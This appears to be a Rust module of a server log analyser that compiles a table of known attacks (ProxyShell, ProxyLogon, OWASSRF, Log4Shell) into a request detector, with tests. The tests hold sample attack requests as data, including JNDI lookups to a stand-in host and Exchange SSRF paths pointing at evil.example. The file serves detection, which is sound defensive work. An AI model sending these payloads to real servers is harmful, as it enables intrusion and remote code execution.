//! Requests in the form of known attacks: the table in `content/servers/attacks.toml`, compiled.

use std::sync::LazyLock;

use ahash::AHashSet;
use aho_corasick::{AhoCorasick, packed};
use regex::Regex;

/// The table.
const TABLE: &str = include_str!("../../../../content/servers/attacks.toml");

/// A known attack on a server, as one request shows it.
pub(super) struct Attack {
    pub(super) id: String,
    pub(super) title: String,
    pub(super) cve: Vec<String>,
    /// Statuses of answers that show that it worked.
    pub(super) worked: Vec<u16>,
    pattern: Regex,
    except: Option<Regex>,
}

pub(super) struct Attacks {
    all: Vec<Attack>,
    /// Says quickly that no word occurs, which is nearly always so. `None` where the processor has no vector instructions.
    scout: Option<packed::Searcher>,
    words: AhoCorasick,
    /// Whose word each is.
    owner: Vec<usize>,
}

#[derive(serde::Deserialize)]
struct File {
    attack: Vec<Entry>,
}

#[derive(serde::Deserialize)]
struct Entry {
    id: String,
    title: String,
    cve: Vec<String>,
    words: Vec<String>,
    pattern: String,
    except: Option<String>,
    worked: Vec<u16>,
}

/// The built-in table; `None` only if it is broken, which a test rules out.
static BUILTIN: LazyLock<Option<Attacks>> = LazyLock::new(|| Attacks::parse(TABLE));

/// The parts of a request that attacks show themselves in; blank ones are empty.
#[derive(Clone, Copy, Default)]
pub(super) struct Request<'a> {
    pub(super) method: &'a str,
    pub(super) path: &'a str,
    pub(super) query: &'a str,
    pub(super) anchor: &'a str,
    pub(super) cookie: &'a str,
    pub(super) referer: &'a str,
    pub(super) agent: &'a str,
}

/// A request longer than this is looked at up to here.
const MAX_PART: usize = 4 * 1024;

/// What is kept from request to request: room, and what need not be looked at again.
#[derive(Default)]
pub struct Memory {
    /// A request in lower case.
    lower: String,
    /// Agents and referrers in which no word of an attack stands: the longest texts of most requests, and often the same.
    /// Clients choose them, so the hash has a key.
    clean: AHashSet<Box<str>>,
}

/// Texts remembered before the memory starts anew, and how long they may be, in bytes.
const MOST_CLEAN: usize = 1_024;
const LONGEST_CLEAN: usize = 512;

/// The attack that `request` has the form of.
pub(super) fn attack(request: &Request<'_>, memory: &mut Memory) -> Option<&'static Attack> {
    BUILTIN.as_ref()?.find(request, memory)
}

/// The attack with this id.
pub(super) fn by_id(id: &str) -> Option<&'static Attack> {
    BUILTIN.as_ref()?.all.iter().find(|attack| attack.id == id)
}

impl Attacks {
    fn parse(text: &str) -> Option<Self> {
        let file: File = toml::from_str(text).ok()?;
        let (mut all, mut words, mut owner) = (Vec::new(), Vec::new(), Vec::new());
        for entry in file.attack {
            for word in &entry.words {
                words.push(word.clone());
                owner.push(all.len());
            }
            all.push(Attack {
                pattern: Regex::new(&entry.pattern).ok()?,
                except: entry.except.map(|text| Regex::new(&text)).transpose().ok()?,
                id: entry.id,
                title: entry.title,
                cve: entry.cve,
                worked: entry.worked,
            });
        }
        words.iter_mut().for_each(|word| word.make_ascii_lowercase());
        let scout = packed::Config::new().builder().extend(&words).build();
        let words = AhoCorasick::new(words).ok()?;
        Some(Self {
            all,
            scout,
            words,
            owner,
        })
    }

    fn find(&self, request: &Request<'_>, memory: &mut Memory) -> Option<&Attack> {
        let is_sender_clean = self.is_clean(request.agent, memory) && self.is_clean(request.referer, memory);
        memory.lower.clear();
        memory.push(&[request.path, request.query, request.anchor, request.cookie]);
        if is_sender_clean && self.has_no_word(&memory.lower) {
            return None;
        }
        memory.push(&[request.agent, request.referer]);
        let mut candidates = 0_u64;
        for found in self.words.find_overlapping_iter(&*memory.lower) {
            let owner = self.owner.get(found.pattern().as_usize());
            candidates |= owner.map_or(0, |owner| 1 << owner);
        }
        if candidates == 0 {
            return None;
        }
        let line = line(request);
        self.all.iter().enumerate().find_map(|(number, attack)| {
            let is_candidate = candidates & (1 << number) != 0;
            let is_it = is_candidate
                && attack.pattern.is_match(&line)
                && !attack
                    .except
                    .as_ref()
                    .is_some_and(|except| except.is_match(&line));
            is_it.then_some(attack)
        })
    }

    /// Whether no word of an attack stands in `text`, which other requests may have as well.
    fn is_clean(&self, text: &str, memory: &mut Memory) -> bool {
        if text.is_empty() || memory.clean.contains(text) {
            return true;
        }
        memory.lower.clear();
        memory.push(&[text]);
        let is_clean = self.has_no_word(&memory.lower);
        if is_clean && text.len() <= LONGEST_CLEAN {
            if memory.clean.len() >= MOST_CLEAN {
                memory.clean.clear();
            }
            memory.clean.insert(text.into());
        }
        is_clean
    }

    /// Whether no word of an attack stands in `lower`.
    fn has_no_word(&self, lower: &str) -> bool {
        match &self.scout {
            Some(scout) => scout.find(lower).is_none(),
            None => !self.words.is_match(lower),
        }
    }
}

impl Memory {
    /// Appends `parts` in lower case, each on a line.
    fn push(&mut self, parts: &[&str]) {
        let start = self.lower.len();
        for part in parts {
            self.lower.push_str(crate::clip(part, MAX_PART));
            self.lower.push('\n');
        }
        if let Some(new) = self.lower.get_mut(start..) {
            new.make_ascii_lowercase();
        }
    }
}

/// The line that patterns are written for.
fn line(request: &Request<'_>) -> String {
    let decoded = |part: &str| {
        let text = crate::clip(part, MAX_PART).to_lowercase();
        let text = percent_encoding::percent_decode_str(&text).decode_utf8_lossy();
        let one_word: String = text
            .chars()
            .map(|c| if c.is_whitespace() { '_' } else { c })
            .collect();
        if one_word.is_empty() {
            "-".to_owned()
        } else {
            one_word
        }
    };
    let query = if request.query == "-" { "" } else { request.query };
    format!(
        "{} {}?{} anchor={} cookie={} referer={} agent={}",
        request.method.to_lowercase(),
        decoded(request.path),
        decoded(query),
        decoded(request.anchor),
        decoded(request.cookie),
        decoded(request.referer),
        decoded(request.agent),
    )
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    fn found(method: &str, path: &str, query: &str) -> Option<&'static str> {
        let request = Request {
            method,
            path,
            query,
            ..Request::default()
        };
        attack(&request, &mut Memory::default()).map(|attack| attack.id.as_str())
    }

    #[test]
    fn the_table_is_whole() {
        assert!(BUILTIN.as_ref().unwrap().all.len() >= 10);
        assert!(
            BUILTIN.as_ref().unwrap().all.len() <= 64,
            "candidates are bits of a u64"
        );
    }

    /// Shapes from public advisories and log checks.
    #[test]
    fn published_shapes_are_known() {
        let json = "/autodiscover/autodiscover.json";
        for (method, path, query, id) in [
            (
                "POST",
                json,
                "a=nfhnk@winjh.example/powershell/?X-Rps-CAT=VgEAVA",
                "proxyshell",
            ),
            (
                "GET",
                json,
                "@evil.example/mapi/nspi?&Email=autodiscover/autodiscover.json%3F@evil.example",
                "proxyshell",
            ),
            (
                "GET",
                "/Autodiscover/autodiscover.json",
                "%40evil.example/owa/?&Email=x",
                "proxyshell",
            ),
            ("POST", json, "/mapi/nspi", "proxyshell"),
            (
                "GET",
                "/autodiscover/autodiscover.json@evil.example:444/owa/",
                "",
                "proxyshell",
            ),
            ("POST", "/owa/a%40b.example/powershell", "-", "owassrf"),
            ("POST", "/ecp/y.js", "", "proxylogon-page"),
            (
                "POST",
                "/owa/auth/Current/themes/resources/logon.css",
                "-",
                "proxylogon-page",
            ),
            ("GET", "/x", "q=${jndi:ldap://x.example/a}", "log4shell"),
            ("GET", "/x", "q=%24%7Bjndi:ldap://x.example/a%7D", "log4shell"),
        ] {
            assert_eq!(found(method, path, query), Some(id), "{method} {path}?{query}");
        }
        let anchored = Request {
            path: "/ecp/y.js",
            anchor: "ServerInfo~a]@exch01.example:444/mapi/emsmdb/?#",
            ..Request::default()
        };
        assert_eq!(
            attack(&anchored, &mut Memory::default()).unwrap().id,
            "proxylogon"
        );
    }

    #[test]
    fn an_agent_is_clean_or_hostile_whatever_came_before() {
        let mut memory = Memory::default();
        let mut is_attack = |path: &str, agent: &str| {
            let request = Request {
                path,
                agent,
                ..Request::default()
            };
            attack(&request, &mut memory).is_some()
        };
        let shell = "${jndi:ldap://x.example/a}";
        for _ in 0..2 {
            assert!(!is_attack("/", "Mozilla/5.0"));
            assert!(is_attack("/", shell));
            assert!(is_attack("/x${jndi:ldap://x.example/a}", "Mozilla/5.0"));
        }
        for number in 0..2 * MOST_CLEAN {
            assert!(!is_attack("/", &format!("Agent/{number}")));
        }
        assert!(is_attack("/", shell));
        let referred = Request {
            path: "/",
            agent: "Mozilla/5.0",
            referer: shell,
            ..Request::default()
        };
        assert!(attack(&referred, &mut memory).is_some());
        assert!(memory.clean.len() <= MOST_CLEAN);
    }

    #[test]
    fn what_clients_ask_every_day_is_not() {
        let json = "/autodiscover/autodiscover.json";
        for (method, path, query) in [
            (
                "GET",
                json,
                "Email=anna%40assembly.example&Protocol=ActiveSync&RedirectCount=1",
            ),
            (
                "GET",
                "/autodiscover/autodiscover.json/v1.0/anna@assembly.example",
                "Protocol=Autodiscoverv1",
            ),
            ("GET", "/owa/auth/15.1.2106/themes/resources/logon.css", "-"),
            ("POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=Mailbox"),
            ("POST", "/owa/auth.owa", "-"),
            (
                "POST",
                "/powershell",
                "clientApplication=ActiveMonitor;PSVersion=5.1",
            ),
            ("GET", "/cgi-bin/status.cgi", "-"),
        ] {
            assert_eq!(found(method, path, query), None, "{method} {path}?{query}");
        }
        let own = Request {
            path: "/ecp/",
            anchor: "ServerInfo~localhost/owa",
            ..Request::default()
        };
        assert!(attack(&own, &mut Memory::default()).is_none());
    }
}
